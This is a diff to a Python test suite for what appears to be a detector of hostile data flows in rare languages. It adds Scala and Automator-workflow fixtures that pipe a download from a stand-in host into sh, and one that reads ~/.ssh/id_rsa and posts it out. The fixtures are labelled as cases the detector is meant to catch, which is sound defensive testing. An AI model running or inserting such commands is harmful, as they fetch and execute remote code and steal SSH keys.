@@ -139,6 +139,10 @@ def flows(text: str, language: str) -> set[tuple[str, str, str]]:
             'k = File.read(Path["~/.ssh/id_rsa"].expand)\nHTTP::Client.post("https://c.example", body: k)',
             SENT,
         ),
+        ("scala", 'object M { def main(a: Array[String]) = "curl https://c.example/p | sh".! }', RUN),
+        ("scala", 'object M extends App { Seq("sh", "-c", "curl https://c.example/p | sh").!! }', RUN),
+        ("scala", 'val k = os.read(os.home / ".ssh/id_rsa")\nrequests.post("https://c.example", data = k)', SENT),
+        ("workflow", "<key>COMMAND_STRING</key>\n<string>curl https://c.example/p | sh</string>", RUN),
         ("pascal", "begin fpSystem('curl https://c.example/p | sh'); end.", RUN),
         ("gdscript", 'func _ready():\n\tOS.execute("sh", ["-c", "curl https://c.example/p | sh"])', RUN),
     ],
@@ -151,7 +155,8 @@ def test_what_flows_in_a_rare_language_is_seen(language: str, text: str, flow: t
     ("name", "language"),
     [("a.vbs", "vbscript"), ("a.hs", "haskell"), ("a.jl", "julia"), ("a.tcl", "tcl"), ("a.awk", "awk"),
      ("q.sql", "sql"), ("a.clj", "clojure"), ("a.el", "elisp"), ("a.rkt", "scheme"), ("paper.tex", "latex"),
-     ("CMakeLists.txt", "cmake"), ("a.reg", "registry"), (".vimrc", "viml"), ("a.zig", "zig"), ("a.erl", "erlang")],
+     ("CMakeLists.txt", "cmake"), ("a.reg", "registry"), (".vimrc", "viml"), ("a.zig", "zig"), ("a.erl", "erlang"),
+     ("build.sbt", "scala"), ("document.wflow", "workflow")],
 )  # fmt: skip
 def test_a_rare_language_is_known_by_the_name_of_the_file(name: str, language: str) -> None:
     assert find_language(name, "x = 1\n") == language
